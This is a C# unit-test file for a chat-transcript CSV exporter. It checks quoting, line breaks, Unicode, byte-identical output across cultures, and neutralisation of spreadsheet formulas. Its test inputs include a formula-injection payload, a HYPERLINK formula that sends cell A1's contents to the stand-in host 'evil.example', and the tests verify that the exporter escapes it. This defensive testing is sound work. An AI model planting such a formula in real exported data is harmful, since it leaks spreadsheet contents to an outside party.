using System.Globalization;
using System.Text;
using ChatTranscripts.Pipeline.Logic.Transcripts;
using ChatTranscripts.Pipeline.Logic.Transcripts.Exports;
using ChatTranscripts.Pipeline.Tests.Rendering;
using CsvHelper;

namespace ChatTranscripts.Pipeline.Tests.Transcripts.Exports;

public sealed class TranscriptCsvTests
{
    private static readonly byte[] Utf8Bom = [0xEF, 0xBB, 0xBF];

    /// <summary>Texts a CSV writer must quote, keep whole or guard: separators, quotes, line breaks, formulas, any script.</summary>
    private static readonly string[] AwkwardTexts =
    [
        "A1: Patients already search online, and so should we #bmcmed",
        "She said \"hello\", then \"\"goodbye\"\"",
        "line one\nline two\r\nline three\rend",
        "\"",
        ",",
        "=1+1",
        "+1 agreed",
        "-1 disagree",
        "@FarrisTimimi what do you think?",
        "\tindented",
        "\rcarriage return first",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "a=1 is fine mid-text",
        "'=already quoted",
        "Ünïcødé, 日本語, עברית, Ελληνικά",
        "🎉 astral 𝕏 𝄞 and a ZWJ family 👨‍👩‍👧",
        " leading and trailing spaces ",
        "",
    ];

    /// <summary>One post per awkward text, with every optional field used by some post and left empty by others.</summary>
    private static TranscriptDocument Transcript()
    {
        var sketch = new TranscriptSketch()
            .Post("1", "Q1: How? #bmcmed", 0, handle: "BMCMedicine", displayName: "BMC Medicine", role: "moderator", question: 1,
                url: "https://twitter.com/BMCMedicine/status/1");
        for (var i = 0; i < AwkwardTexts.Length; i++)
        {
            var id = (i + 10).ToString(CultureInfo.InvariantCulture);
            sketch.Post(
                id,
                AwkwardTexts[i],
                i + 1,
                handle: "user_" + id,
                displayName: i % 4 == 3 ? null : AwkwardTexts[i],
                role: i % 5 == 0 ? "guest" : "participant",
                replyTo: i % 3 == 0 ? "1" : null,
                answers: i % 2 == 0 ? 1 : null,
                url: i % 2 == 0 ? $"https://twitter.com/user_{id}/status/{id}?a=1&b=2" : null,
                lang: i % 3 == 2 ? null : "en",
                editedAt: i % 4 == 1 ? new DateTime(2012, 8, 6, 12, 30, 15, DateTimeKind.Utc) : null,
                quoted: i % 6 == 5 ? "1" : null);
        }
        var transcript = sketch.Build();
        return transcript with
        {
            Posts = transcript.Posts
                .Select((p, i) => i % 2 == 0
                    ? p with { Hashtags = ["bmcmed", "hcsm"], Mentions = ["FarrisTimimi", "LeeAase"], Urls = ["https://example.com/a", "http://b.example"] }
                    : p with { Hashtags = ["bmcmed"] })
                .ToList(),
        };
    }

    /// <summary>What a spreadsheet-safe cell holds: text that a spreadsheet would run as a formula gets a leading apostrophe.</summary>
    private static string Cell(string value) =>
        value.Length > 0 && value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;

    private static string Time(DateTime utc) => utc.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);

    private static IReadOnlyList<string> Expected(TranscriptPost post) =>
    [
        post.Id,
        post.Platform,
        post.PlatformId,
        post.Url ?? "",
        Time(post.CreatedAt),
        post.EditedAt is { } edited ? Time(edited) : "",
        post.Author.Handle,
        Cell(post.Author.DisplayName ?? ""),
        post.Author.Role,
        post.Kind,
        post.Question?.ToString(CultureInfo.InvariantCulture) ?? "",
        post.AnswersQuestion?.ToString(CultureInfo.InvariantCulture) ?? "",
        post.InReplyToId ?? "",
        post.QuotedId ?? "",
        post.ThreadRootId,
        post.Lang ?? "",
        string.Join(' ', post.Hashtags),
        string.Join(' ', post.Mentions),
        string.Join(' ', post.Urls),
        Cell(post.Text),
    ];

    private static (IReadOnlyList<string> Header, List<string[]> Rows) Read(byte[] csv)
    {
        using var reader = CsvReader.Create(csv);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }
        return (reader.Headers.ToList(), rows);
    }

    [Fact]
    public void Every_post_reads_back_field_by_field_in_document_order()
    {
        var transcript = Transcript();

        var (header, rows) = Read(TranscriptCsv.Serialize(transcript));

        Assert.Equal(
            [
                "id", "platform", "platform_id", "url", "created_at", "edited_at", "author_handle", "author_display_name",
                "author_role", "kind", "question", "answers_question", "in_reply_to_id", "quoted_id", "thread_root_id",
                "lang", "hashtags", "mentions", "urls", "text",
            ],
            header);
        Assert.Equal(transcript.Posts.Count, rows.Count);
        for (var i = 0; i < rows.Count; i++)
        {
            var expected = Expected(transcript.Posts[i]);
            Assert.Equal(expected.Count, rows[i].Length);
            for (var field = 0; field < expected.Count; field++)
            {
                Assert.True(expected[field] == rows[i][field], $"Row {i}, {header[field]}: expected \"{expected[field]}\", read \"{rows[i][field]}\".");
            }
        }
    }

    [Fact]
    public void Texts_with_separators_quotes_line_breaks_and_any_script_read_back_unchanged()
    {
        var transcript = Transcript();

        var (_, rows) = Read(TranscriptCsv.Serialize(transcript));

        var texts = rows.Select(r => r[^1]).ToList();
        foreach (var text in AwkwardTexts.Where(t => Cell(t) == t))
        {
            Assert.Contains(text, texts);
        }
        Assert.Contains("line one\nline two\r\nline three\rend", texts);
        Assert.Contains("🎉 astral 𝕏 𝄞 and a ZWJ family 👨‍👩‍👧", texts);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1 agreed")]
    [InlineData("-1 disagree")]
    [InlineData("@FarrisTimimi what do you think?")]
    [InlineData("\tindented")]
    [InlineData("\rcarriage return first")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string formula)
    {
        var transcript = new TranscriptSketch().Post("1", formula, 0, displayName: formula).Build();

        var csv = TranscriptCsv.Serialize(transcript);

        var (_, rows) = Read(csv);
        var row = Assert.Single(rows);
        Assert.Equal("'" + formula, row[^1]);
        Assert.Equal("'" + formula, row[7]);
        // Quoted as well, so the apostrophe is inside the field for a reader that splits on commas naively.
        Assert.Contains("\"'" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", Encoding.UTF8.GetString(csv), StringComparison.Ordinal);
    }

    [Fact]
    public void Text_that_only_contains_formula_characters_later_on_is_left_alone()
    {
        var transcript = new TranscriptSketch().Post("1", "a=1 is fine mid-text", 0, displayName: "Jo-Ann @ work").Build();

        var (_, rows) = Read(TranscriptCsv.Serialize(transcript));

        Assert.Equal("a=1 is fine mid-text", rows[0][^1]);
        Assert.Equal("Jo-Ann @ work", rows[0][7]);
    }

    [Fact]
    public void The_file_is_utf8_with_a_byte_order_mark_and_crlf_after_every_record()
    {
        var transcript = new TranscriptSketch()
            .Post("1", "one", 0)
            .Post("2", "two\nlines", 1)
            .Build();

        var csv = TranscriptCsv.Serialize(transcript);

        Assert.Equal(Utf8Bom, csv[..3]);
        var text = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(csv[3..]);
        Assert.StartsWith("id,platform,platform_id,url,created_at,", text, StringComparison.Ordinal);
        var records = text.Split("\r\n");
        Assert.Equal(4, records.Length);
        Assert.Equal("", records[^1]);
        Assert.Equal(
            "twitter:1,twitter,1,,2012-08-06T12:00:00Z,,someone,Some One,participant,post,,,,,twitter:1,en,,,,one",
            records[1]);
        Assert.EndsWith(",\"two\nlines\"", records[2], StringComparison.Ordinal);
        Assert.Equal("transcript.csv", TranscriptCsv.FileName);
    }

    [Fact]
    public void A_transcript_without_posts_is_the_header_alone()
    {
        var csv = TranscriptCsv.Serialize(new TranscriptSketch().Build());

        var (header, rows) = Read(csv);
        Assert.Equal(TranscriptCsv.Columns, header);
        Assert.Empty(rows);
        Assert.EndsWith("text\r\n", Encoding.UTF8.GetString(csv), StringComparison.Ordinal);
    }

    [Fact]
    public void The_same_transcript_gives_identical_bytes_whatever_the_culture()
    {
        var transcript = Transcript();
        var first = TranscriptCsv.Serialize(transcript);

        var original = CultureInfo.CurrentCulture;
        try
        {
            foreach (var culture in new[] { "ar-SA", "de-DE", "th-TH" })
            {
                CultureInfo.CurrentCulture = CultureInfo.GetCultureInfo(culture);
                Assert.Equal(first, TranscriptCsv.Serialize(transcript));
            }
        }
        finally
        {
            CultureInfo.CurrentCulture = original;
        }
        Assert.Equal(first, TranscriptCsv.Serialize(transcript));
    }
}
